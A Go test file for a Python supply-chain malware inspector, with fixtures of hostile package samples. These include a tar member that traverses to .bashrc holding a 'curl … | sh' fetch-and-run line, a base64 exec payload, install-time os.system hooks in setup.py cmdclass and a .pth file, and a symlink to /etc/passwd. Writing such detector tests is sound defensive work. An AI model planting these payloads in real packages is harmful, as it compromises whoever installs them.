package inspect

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/krait-dev/krait/internal/supplychain/inspect/malcode"
)

func tarGz(t *testing.T, members map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	gz := gzip.NewWriter(&buf)
	tw := tar.NewWriter(gz)
	for name, body := range members {
		if err := tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		if _, err := tw.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		t.Fatal(err)
	}
	if err := gz.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func rules(rep *Report) map[string]int {
	m := map[string]int{}
	for _, f := range rep.Findings {
		m[f.RuleID]++
	}
	return m
}

func TestHostileArchive(t *testing.T) {
	data := tarGz(t, map[string]string{
		"x-1.0/setup.py":        "from setuptools import setup\nsetup(name='x')\n",
		"x-1.0/../../.bashrc":   "curl http://203.0.113.1 | sh\n",
		"x-1.0/x/__init__.py":   "def f(:\n",
		"x-1.0/x/data.bin":      "\x00\x01",
		"x-1.0/x/notes.txt":     "\x7fELF\x02\x01\x01",
		"x-1.0/PKG-INFO":        "Metadata-Version: 2.1\nName: x\nVersion: 1.0\n",
		"x-1.0/x/sitecustom.py": "import os\n",
	})
	pkg, err := LoadArchive(context.Background(), data, "x-1.0.tar.gz")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range pkg.Files {
		if strings.Contains(f.Path, "..") {
			t.Errorf("unsafe member served: %s", f.Path)
		}
	}
	rep, err := Inspect(context.Background(), pkg, Options{})
	if err != nil {
		t.Fatal(err)
	}
	got := rules(rep)
	for _, id := range []string{malcode.IDUnsafeArchive, malcode.IDUnreadable, malcode.IDBinaryInPackage} {
		if got[id] == 0 {
			t.Errorf("no %s finding: %s", id, summary(rep))
		}
	}
	if rep.Verdict != Malicious { // the disguised ELF is decisive, the traversal adds
		t.Errorf("verdict %s", summary(rep))
	}
}

func TestVersionsAndNames(t *testing.T) {
	for _, c := range []struct {
		version string
		flagged bool
	}{{"99.0.0", true}, {"1337.1", true}, {"2026.5.20", false}, {"4.2.0", false}, {"20240101", false}} {
		pkg := &Package{Kind: KindSdist, Name: "p", Version: c.version, Files: []File{{Path: "p-1/PKG-INFO", Data: []byte("Name: p\nVersion: " + c.version + "\n")}}}
		pkg.Files[0].Size = int64(len(pkg.Files[0].Data))
		rep, err := Inspect(context.Background(), pkg, Options{})
		if err != nil {
			t.Fatal(err)
		}
		if got := rules(rep)[malcode.IDSuspiciousVersion] > 0; got != c.flagged {
			t.Errorf("version %s: flagged %v, want %v", c.version, got, c.flagged)
		}
	}
	pkg := &Package{Kind: KindSdist, Files: []File{{Path: "p-1/PKG-INFO", Data: []byte("Name: requests\nVersion: 1.0\n")}}}
	pkg.Files[0].Size = int64(len(pkg.Files[0].Data))
	rep, _ := Inspect(context.Background(), pkg, Options{ExpectName: "reqursts"})
	if rules(rep)[malcode.IDNameMismatch] != 1 {
		t.Errorf("no name mismatch: %s", summary(rep))
	}
	rep, _ = Inspect(context.Background(), pkg, Options{ExpectName: "Requests"})
	if rules(rep)[malcode.IDNameMismatch] != 0 {
		t.Errorf("normalised names differ: %s", summary(rep))
	}
	if n, v, ok := ParseTarget("Foo_Bar==1.0"); !ok || n != "Foo_Bar" || v != "1.0" {
		t.Errorf("ParseTarget: %q %q %v", n, v, ok)
	}
	for _, bad := range []string{"foo", "foo==", "==1", "foo==1/../x", "-x==1"} {
		if _, _, ok := ParseTarget(bad); ok {
			t.Errorf("ParseTarget(%q) accepted", bad)
		}
	}
}

// TestContexts checks the weighting: the same pattern weighs more where
// it runs at install time than in an uncalled function of a submodule.
func TestContexts(t *testing.T) {
	payload := "import base64\n\ndef later():\n    exec(base64.b64decode('cHJpbnQoMSk='))\n"
	mk := func(files map[string]string) *Report {
		var fs []File
		for p, c := range files {
			fs = append(fs, File{Path: p, Data: []byte(c), Size: int64(len(c))})
		}
		rep, err := Inspect(context.Background(), &Package{Kind: KindDirectory, Files: fs}, Options{})
		if err != nil {
			t.Fatal(err)
		}
		return rep
	}
	uncalled := mk(map[string]string{"pkg/__init__.py": "", "pkg/util.py": payload})
	called := mk(map[string]string{"pkg/__init__.py": "from .util import later\nlater()\n", "pkg/util.py": payload})
	setup := mk(map[string]string{"setup.py": payload + "later()\n"})
	if uncalled.Verdict == Malicious || called.Verdict != Malicious || setup.Verdict != Malicious {
		t.Errorf("uncalled %s\ncalled %s\nsetup %s", summary(uncalled), summary(called), summary(setup))
	}
	if !(setup.Score > called.Score && called.Score > uncalled.Score) {
		t.Errorf("scores not ordered: %v %v %v", setup.Score, called.Score, uncalled.Score)
	}
	// network and subprocess alone at install time: never malicious
	honest := mk(map[string]string{"setup.py": "import subprocess, urllib.request\nurllib.request.urlopen('https://example.org/x')\nsubprocess.call(['make'])\n"})
	if honest.Verdict == Malicious {
		t.Errorf("honest: %s", summary(honest))
	}
	// commands in cmdclass overrides run at install time
	cmd := mk(map[string]string{"setup.py": "from setuptools.command.install import install as I\nimport os\nclass C(I):\n    def run(self):\n        os.system('id')\n"})
	for _, c := range cmd.Contributions {
		if c.RuleID == malcode.IDInstallCommand && c.Where != InstallTime.String() {
			t.Errorf("cmdclass run: %+v", c)
		}
	}
	if len(cmd.Contributions) == 0 {
		t.Errorf("cmdclass: no findings")
	}
}

func TestLoadInstalled(t *testing.T) {
	site := t.TempDir()
	write := func(rel, body string) {
		p := filepath.Join(site, filepath.FromSlash(rel))
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	write("demo/__init__.py", "import os\n")
	write("demo.pth", "import os; os.system('id')\n")
	write("demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n")
	write("demo-1.0.dist-info/RECORD", "demo/__init__.py,,\ndemo.pth,,\n../../../bin/demo,,\n/etc/passwd,,\ndemo-1.0.dist-info/METADATA,,\n")
	pkg, err := LoadInstalled(context.Background(), site, "demo-1.0.dist-info")
	if err != nil {
		t.Fatal(err)
	}
	if len(pkg.Files) != 3 || pkg.Name != "demo" || pkg.Version != "1.0" {
		t.Fatalf("files %+v name %q %q", pkg.Files, pkg.Name, pkg.Version)
	}
	rep, err := Inspect(context.Background(), pkg, Options{})
	if err != nil {
		t.Fatal(err)
	}
	got := rules(rep)
	if got[malcode.IDPthExec] != 1 || got[malcode.IDInstallCommand] != 1 {
		t.Errorf("%s", summary(rep))
	}
}

func TestDirectorySymlinkNotFollowed(t *testing.T) {
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "setup.py"), []byte("print(1)\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("/etc/passwd", filepath.Join(dir, "link.py")); err != nil {
		t.Skip("no symlinks")
	}
	pkg, err := Load(context.Background(), dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range pkg.Files {
		if f.Path == "link.py" {
			t.Error("symlink followed")
		}
	}
	if len(pkg.Problems) != 1 || pkg.Problems[0].RuleID != malcode.IDUnsafeArchive {
		t.Errorf("problems %+v", pkg.Problems)
	}
}
